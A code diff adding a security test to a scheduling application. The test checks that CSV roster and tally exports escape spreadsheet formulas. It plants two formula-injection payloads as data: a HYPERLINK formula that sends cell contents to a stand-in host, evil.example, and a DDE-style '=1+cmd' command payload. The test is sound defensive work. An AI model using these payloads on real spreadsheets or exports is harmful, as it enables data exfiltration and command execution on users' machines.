@@ -3,7 +3,10 @@
 import { createHash } from 'node:crypto';
 import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { households, institutions, pairingRequests, rateLimits, sessions, villages } from '../../db/schema.ts';
+import { households, institutions, pairingRequests, rateLimits, sessions, users, villages } from '../../db/schema.ts';
+import { loadActor } from '../../src/lib/server/auth/scope.ts';
+import { signUpForShift } from '../../src/lib/signups/signups.server.ts';
+import { publishedClinic } from '../setup/events.ts';
 import { RULES } from '../../src/lib/server/auth/rate-limit.ts';
 import { DEMO_PASSWORD } from '../../db/seed/demo.ts';
 import { demoEmail, sessionCookieFor } from '../setup/demo.ts';
@@ -43,6 +46,26 @@ describe('security', () => {
     const request = site.db.select().from(pairingRequests).where(eq(pairingRequests.institutionId, own)).get()!;
     expect((await qinyuan.post(`/institutions/${own}/pairings?_action=pairings.approve`, { requestId: String(request.id) })).status).toBe(403);
     expect((await qinyuan.get(`/households/${household}`)).status).toBe(403);
+  });
+
+  it('writes a name that a spreadsheet would run as a formula as text, in the roster and the tallies', async () => {
+    const member = site.db.select().from(users).where(eq(users.email, demoEmail('member'))).get()!;
+    site.db.update(users).set({ name: '=HYPERLINK("http://evil.example/?"&A2,"点此")' }).where(eq(users.id, member.id)).run();
+    const { eventId, shiftIds } = publishedClinic(site.db, Date.now(), [{ startTime: '09:00', endTime: '12:00', capacity: '5' }], { date: '2099-10-17' });
+    signUpForShift(site.db, { actor: loadActor(site.db, member.id), shiftId: shiftIds[0] });
+    const coordinator = new Visitor(site);
+    coordinator.cookie = await sessionCookieFor(site.db, 'coordinator');
+    const roster = await (await coordinator.get(`/api/events/${eventId}/roster.csv`)).text();
+    expect(roster).toContain('"\'=HYPERLINK(""http://evil.example/?""&A2,""点此"")"');
+    expect(roster).not.toMatch(/(^|,)"?=HYPERLINK/m);
+
+    site.db.update(institutions).set({ name: "=1+cmd|' /C calc'!A0" }).where(eq(institutions.name, '长春市中心医院')).run();
+    const admin = new Visitor(site);
+    admin.cookie = await sessionCookieFor(site.db, 'admin');
+    const tallies = await (await admin.get('/api/tallies.csv')).text();
+    expect(tallies).toContain("'=1+cmd|' /C calc'!A0");
+    expect(tallies).not.toMatch(/(^|,)"?=1\+cmd/m);
+    site.db.update(institutions).set({ name: '长春市中心医院' }).where(eq(institutions.name, "=1+cmd|' /C calc'!A0")).run();
   });
 
   it('keeps only the hash of a session id, so a copy of the database opens no session', async () => {
